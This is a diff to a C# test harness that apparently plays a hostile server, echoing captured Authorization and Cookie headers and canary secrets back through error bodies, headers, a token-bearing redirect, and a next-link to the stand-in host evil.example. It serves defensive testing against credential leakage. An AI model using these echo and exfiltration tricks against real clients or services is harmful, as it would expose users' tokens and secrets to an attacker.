@@ -48,7 +48,8 @@ public sealed class CanaryWorld : IAsyncDisposable
 
     public int Echoes { get; private set; }
 
-    public IReadOnlyList<string> Files => Directory.GetFiles(_folder);
+    /// <summary>What the store wrote. Its lock is held and empty.</summary>
+    public IReadOnlyList<string> Files => [.. Directory.GetFiles(_folder).Where(f => !f.EndsWith(".lock", StringComparison.Ordinal) || new FileInfo(f).Length > 0)];
 
     public async ValueTask DisposeAsync()
     {
@@ -85,7 +86,8 @@ public sealed class CanaryWorld : IAsyncDisposable
                 _app.Set("c1", "name", $"{_person} {++_edits}");
                 await RunOnceAsync();
                 await TryAsync(async () => await linker.CreateAsync((await linker.DraftAsync("oslo", new RecordRef(EntityKinds.Company, "c2"), _dialect.Kind, User, default)).Answer()
-                    with { InSpiteOfDuplicates = true }, User, default));
+                    with
+                { InSpiteOfDuplicates = true }, User, default));
                 await TryAsync(async () => await linker.SearchAsync(new SearchRequest("oslo", _dialect.Kind) { Text = _person }, User, default));
                 _server.Attack = null;
                 _time.Advance(TimeSpan.FromMinutes(30));
@@ -112,14 +114,17 @@ public sealed class CanaryWorld : IAsyncDisposable
     private Task AnswerTokenAsync(string request, System.Net.Sockets.NetworkStream stream) => new HostileReply(200, "application/json",
         $$"""{"access_token":"{{Secrets[2]}}","token_type":"Bearer","expires_in":3600,"refresh_token":"{{Secrets[1]}}"}""").SendAsync(stream);
 
-    // All that was sent, as it stands and decoded, and the name of a person.
+    // All that was sent to say who asks, as it stands and decoded, and the name of a person.
     private string Echo(HostileRequest request)
     {
-        var credentials = request.Headers.Where(h => h.Key is "Authorization" or "X-API-Key" or "Cookie" || h.Value.Contains("canary", StringComparison.Ordinal)).Select(h => h.Value).ToList();
+        var credentials = request.Headers.Where(h => h.Key is "Authorization" or "Cookie" || h.Value.Contains("canary", StringComparison.Ordinal)).Select(h => h.Value).ToList();
         var decoded = credentials.Select(c => c[(c.IndexOf(' ', StringComparison.Ordinal) + 1)..])
             .Select(c => Convert.TryFromBase64String(c, new byte[c.Length], out _) ? Encoding.UTF8.GetString(Convert.FromBase64String(c)) : c);
-        return string.Join(' ', credentials.Concat(decoded).Append(_person).Append(Secrets[0]));
+        return string.Join(' ', credentials.Concat(decoded).Concat(Secrets.Where(s => request.Body.Contains(s, StringComparison.Ordinal))).Append(_person));
     }
+
+    // As short as a code may be: the first secret that the server was given.
+    private string Code(string echo) => Secrets.FirstOrDefault(s => echo.Contains(s, StringComparison.Ordinal)) ?? "Bad";
 
     private IEnumerable<Func<HostileAttack, string, Task>> Ways =>
     [
@@ -127,15 +132,15 @@ public sealed class CanaryWorld : IAsyncDisposable
         (a, e) => new HostileReply(200, "application/json", a.Dialect.Error(e)).SendAsync(a.Stream),
         (a, e) => new HostileReply(409, "application/json", a.Dialect.Error(e)).SendAsync(a.Stream),
         (a, e) => new HostileReply(500, "application/json", a.Dialect.Error(e)).SendAsync(a.Stream),
-        (a, e) => new HostileReply(422, "application/json", $$$"""{"error":{"code":"{{{Secrets[0]}}}","message":"{{{e}}}","target":"name","details":[{"target":"name","message":"{{{e}}}"}]}}""").SendAsync(a.Stream),
+        (a, e) => new HostileReply(422, "application/json", $$$"""{"error":{"code":"{{{Code(e)}}}","message":"{{{e}}}","target":"name","details":[{"target":"name","message":"{{{e}}}"}]}}""").SendAsync(a.Stream),
         (a, e) => new HostileReply(403, "text/html", $"<html>{e}</html>").SendAsync(a.Stream),
         (a, e) => new HostileReply(401, "text/html", $"<html>{e}</html>") { Headers = $"WWW-Authenticate: Basic realm=\"{e}\"\r\n" }.SendAsync(a.Stream),
-        (a, e) => new HostileReply(429, "text/plain", e) { Headers = $"Retry-After: {Secrets[0]}\r\n" }.SendAsync(a.Stream),
+        (a, e) => new HostileReply(429, "text/plain", e) { Headers = $"Retry-After: {Code(e)}\r\n" }.SendAsync(a.Stream),
         (a, e) => new HostileReply(200, "text/html", $"<html>{e}</html>").SendAsync(a.Stream),
         (a, e) => new HostileReply(200, "application/json", $"{{\"{e}\":").SendAsync(a.Stream),
         (a, e) => a.WriteAsync($"HTTP/1.1 302 Found\r\nLocation: /?token={Uri.EscapeDataString(e)}\r\nContent-Length: 0\r\n\r\n"),
         (a, e) => a.WriteAsync($"HTTP/1.1 {e}\r\n\r\n"),
-        (a, e) => new HostileReply(200, $"application/{Secrets[0]}", e).SendAsync(a.Stream),
+        (a, e) => new HostileReply(200, $"application/{Code(e)}", e).SendAsync(a.Stream),
         (a, e) => (a.Reply with { Body = a.Dialect.WithNextLink(a.Reply.Body, $"https://evil.example/?{Uri.EscapeDataString(e)}") ?? "{}" }).SendAsync(a.Stream),
         (a, _) => a.ResetAsync(),
     ];
